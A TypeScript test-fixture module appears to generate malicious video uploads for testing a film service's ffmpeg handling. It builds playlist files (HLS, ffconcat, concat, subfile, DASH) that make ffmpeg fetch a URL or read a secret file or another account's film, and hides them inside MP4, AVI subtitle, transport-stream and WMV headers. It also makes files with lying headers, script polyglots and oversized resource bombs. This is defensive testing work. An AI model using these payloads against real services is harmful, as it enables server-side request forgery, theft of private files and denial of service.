// Files that attack: playlists by the names of films, bombs, polyglots, headers that lie. All are made here.
import { spawnSync } from 'node:child_process'
import { randomBytes } from 'node:crypto'
import { readFile } from 'node:fs/promises'
import { join } from 'node:path'
import { FILM_EXTENSIONS } from '@fullcourt/film'
import { FILM_FORMATS, type FilmFormat, makeFilm } from './makeFilm.ts'
import { makeZip } from './makeZip.ts'

export type PoisonedFilm = {
  readonly name: string
  readonly bytes: Buffer
}

/** What the attacks try to reach. */
export type Targets = {
  /** An address that counts requests. */
  readonly url: string
  /** A text file, and a film of another account. */
  readonly secretFile: string
  readonly otherFilm: string
}

/** Texts that ffmpeg reads as references to other files, if it is let. */
function references({ url, secretFile, otherFilm }: Targets): readonly (readonly [string, string])[] {
  const playlist = (uri: string) => `#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXTINF:9,\n${uri}\n#EXT-X-ENDLIST\n`
  return [
    ['m3u8-http', playlist(`${url}/m3u8.ts`)],
    ['m3u8-file', playlist(otherFilm)],
    ['m3u8-concat', playlist(`concat:${url}/head|file://${secretFile}`)],
    ['ffconcat', `ffconcat version 1.0\nfile '${otherFilm}'\nfile '${secretFile}'\n`],
    ['concat', `concat:${otherFilm}|${secretFile}\n`],
    [
      'dash',
      `<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static"><Period><AdaptationSet><Representation id="1" mimeType="video/mp4" bandwidth="1"><BaseURL>${url}/dash.mp4</BaseURL></Representation></AdaptationSet></Period></MPD>`,
    ],
    [
      'sdp',
      `v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=video ${new URL(url).port} RTP/AVP 96\na=rtpmap:96 H264/90000\n`,
    ],
    ['subfile', `subfile,,start,0,end,99,,:${secretFile}\n`],
    ['data', 'data:application/vnd.apple.mpegurl;base64,I0VYVE0zVQo=\n'],
    ['http', `${url}/film.mp4\n`],
    [
      'xspf',
      `<?xml version="1.0"?><playlist><trackList><track><location>${url}/x</location></track></trackList></playlist>`,
    ],
    ['svg', `<svg xmlns="http://www.w3.org/2000/svg"><image href="${url}/x.png"/></svg>`],
  ]
}

const latin = (text: string): Buffer => Buffer.from(text, 'latin1')
const MPEG_START = Buffer.from([0, 0, 1, 0xba, 0x44, 0, 4, 0, 4, 1, 0, 0, 3, 0xf8])
const ASF_START = Buffer.from('3026b2758e66cf11a6d900aa0062ce6c', 'hex')

/** A text behind the first bytes of each container, so that its demuxer is opened. */
function disguised(name: string, text: string): readonly PoisonedFilm[] {
  const packets = Buffer.concat(
    Array.from({ length: 24 }, () =>
      Buffer.concat([latin('G@\0\x10'), latin(text.padEnd(184).slice(0, 184))]),
    ),
  )
  const chunk = (id: string, data: Buffer): Buffer => {
    const head = Buffer.alloc(8)
    head.write(id, 'latin1')
    head.writeUInt32LE(data.length, 4)
    return Buffer.concat([head, data])
  }
  // Subtitles in AVI may name another format: a playlist, in an attack of 2017.
  const subtitles = chunk(
    '00tx',
    Buffer.concat([
      latin('GAB2\0\x02\0\x08\0\0\0x\0s\0r\0t\0\x04\0'),
      Buffer.from([text.length & 255, text.length >> 8, 0, 0]),
      latin(text),
    ]),
  )
  const streamHeader = chunk('strh', Buffer.concat([latin('txts'), Buffer.alloc(52)]))
  const header = chunk(
    'LIST',
    Buffer.concat([
      latin('hdrl'),
      chunk('avih', Buffer.alloc(56)),
      chunk('LIST', Buffer.concat([latin('strl'), streamHeader])),
    ]),
  )
  const movie = chunk('LIST', Buffer.concat([latin('movi'), subtitles]))
  return [
    { name: `${name} in MP4`, bytes: Buffer.concat([latin('\0\0\0\x10ftypisom\0\0\0\0'), latin(text)]) },
    {
      name: `${name} in a box of MP4`,
      bytes: Buffer.concat([latin('\0\0\0\x10ftypqt  \0\0\0\0\0\0\x10\0moov'), latin(text.repeat(20))]),
    },
    { name: `${name} in AVI subtitles`, bytes: chunk('RIFF', Buffer.concat([latin('AVI '), header, movie])) },
    { name: `${name} in a transport stream`, bytes: packets },
    { name: `${name} in VOB`, bytes: Buffer.concat([MPEG_START, latin(text.repeat(30))]) },
    {
      name: `${name} in MPEG video`,
      bytes: Buffer.concat([Buffer.from([0, 0, 1, 0xb3]), latin(text.repeat(30))]),
    },
    { name: `${name} in WMV`, bytes: Buffer.concat([ASF_START, latin(text.repeat(30))]) },
  ]
}

/** Files whose first bytes are of no film: refused without ffmpeg. */
export function unlikeFilms(targets: Targets): readonly PoisonedFilm[] {
  const texts = references(targets).flatMap(([name, text], index) => {
    const extension = FILM_EXTENSIONS[index % FILM_EXTENSIONS.length]
    return [{ name: `${name}.${extension}`, bytes: Buffer.from(text) }]
  })
  const first = references(targets)[0]![1]
  return [
    ...texts,
    ...FILM_EXTENSIONS.map((extension) => ({ name: `m3u8.${extension}`, bytes: Buffer.from(first) })),
    { name: 'zero bytes', bytes: Buffer.alloc(0) },
    { name: 'one byte', bytes: Buffer.from([0]) },
    { name: 'zeros', bytes: Buffer.alloc(5000) },
    { name: 'random', bytes: randomBytes(5000).fill(1, 0, 4) },
    { name: 'a text', bytes: Buffer.from('We won by two.\n'.repeat(100)) },
    { name: 'a script', bytes: Buffer.from('#!/bin/sh\ncurl http://127.0.0.1/\n') },
    { name: 'a JPEG', bytes: Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), randomBytes(500)]) },
    { name: 'a PDF', bytes: Buffer.from('%PDF-1.7\n') },
    { name: 'a program', bytes: Buffer.concat([latin('\x7fELF'), randomBytes(500)]) },
    { name: 'a zip', bytes: makeZip([{ name: 'x.m3u8', data: Buffer.from(first) }]) },
    { name: 'a page and an MP4', bytes: latin('<html><script>alert(1)</script>\0\0\0\x10ftypisom') },
  ]
}

/** Makes a film with ffmpeg's own sources. */
function makeOdd(folder: string, name: string, args: readonly string[]): string {
  const file = join(folder, name)
  const { status, stderr } = spawnSync('ffmpeg', ['-v', 'error', '-y', ...args, file])
  if (status !== 0) throw new Error(`${name}: ${stderr}`)
  return file
}

/** Replaces a 32-bit number `offset` bytes behind every occurrence of a box. */
function patch(bytes: Buffer, box: string, offset: number, value: number): Buffer {
  const patched = Buffer.from(bytes)
  for (let at = patched.indexOf(box); at >= 0; at = patched.indexOf(box, at + 1))
    patched.writeUInt32BE(value, at + 4 + offset)
  return patched
}

/** Changes a byte in every 97, behind the start. */
function damaged(bytes: Buffer): Buffer {
  const changed = Buffer.from(bytes)
  for (let at = 2000; at < changed.length; at += 97) changed[at] = changed[at]! ^ 0xff
  return changed
}

/** A film of each format, in pieces or with wrong bytes. */
async function brokenFilms(folder: string): Promise<readonly PoisonedFilm[]> {
  const films: PoisonedFilm[] = []
  for (const format of Object.keys(FILM_FORMATS) as FilmFormat[]) {
    const whole = await wholeFilm(folder, format)
    films.push(
      { name: `half of ${format}`, bytes: whole.subarray(0, whole.length / 2) },
      { name: `the start of ${format}`, bytes: whole.subarray(0, 1500) },
      { name: `damaged ${format}`, bytes: damaged(whole) },
    )
  }
  return films
}

const wholeFilm = async (folder: string, format: FilmFormat): Promise<Buffer> =>
  readFile(await makeFilm({ file: join(folder, `whole-${format}`), format, seconds: 1 }))

/** Films that carry something else, or whose headers lie. */
const lyingFilms = (mp4: Buffer): readonly PoisonedFilm[] => [
  {
    name: 'a film and a zip',
    bytes: Buffer.concat([mp4, makeZip([{ name: 'x', data: Buffer.from('x') }])]),
  },
  { name: 'a film and a page', bytes: Buffer.concat([mp4, latin('<script>alert(1)</script>')]) },
  { name: 'a film whose data are elsewhere', bytes: patch(mp4, 'url ', 0, 0) },
  {
    name: 'a header of ten hours',
    bytes: patch(patch(mp4, 'mvhd', 16, 36_000_000), 'mdhd', 16, 550_000_000),
  },
  { name: 'a header without time', bytes: patch(mp4, 'mdhd', 12, 0) },
  { name: 'frames of a hundred hours', bytes: patch(mp4, 'stts', 12, 0x7fffffff) },
  { name: 'more samples than bytes', bytes: patch(mp4, 'stsz', 8, 0x0fffffff) },
  { name: 'chunks beyond the end', bytes: patch(mp4, 'stco', 8, 0x7fffffff) },
]

const picture = (options: string): readonly string[] => ['-f', 'lavfi', '-i', `color=${options}`]

/** Films that no camera makes: name, file, arguments of ffmpeg. */
const ODD_FILMS: readonly (readonly [name: string, file: string, args: readonly string[]])[] = [
  [
    'a million frames a second',
    'fast.mp4',
    [
      ...picture('size=16x16:rate=1000000:duration=0.0005'),
      ...['-c:v', 'libx264', '-video_track_timescale', '1000000'],
    ],
  ],
  [
    '14000 × 14000',
    'large.avi',
    [...picture('size=14000x14000:rate=1:duration=1'), ...['-c:v', 'mjpeg', '-threads', '1']],
  ],
  [
    '200 tracks',
    'tracks.mp4',
    [
      ...picture('size=16x16:rate=10:duration=1'),
      ...Array.from({ length: 200 }, () => ['-map', '0:v']).flat(),
      ...['-c:v', 'mpeg4', '-threads', '1'],
    ],
  ],
  [
    'one frame for hours',
    'slow.mp4',
    [
      ...picture('size=16x16:rate=1:duration=3'),
      ...['-vf', 'setpts=N*50000/TB', '-fps_mode', 'passthrough'],
      ...['-c:v', 'libx264', '-video_track_timescale', '1000'],
    ],
  ],
  ['only sound', 'sound.mp4', ['-f', 'lavfi', '-i', 'sine=duration=1']],
]

/** Files that begin like a film: some are one, and are damaged, lie or carry more than a film. */
export async function likeFilms(targets: Targets, folder: string): Promise<readonly PoisonedFilm[]> {
  const texts = references(targets)
  const disguises = [texts[0]!, texts[1]!, texts[3]!].flatMap(([name, text]) => disguised(name, text))
  const odd = ODD_FILMS.map(async ([name, file, args]) => ({
    name,
    bytes: await readFile(makeOdd(folder, file, args)),
  }))
  return [
    ...disguises,
    ...(await brokenFilms(folder)),
    ...lyingFilms(await wholeFilm(folder, 'mp4')),
    ...(await Promise.all(odd)),
  ]
}
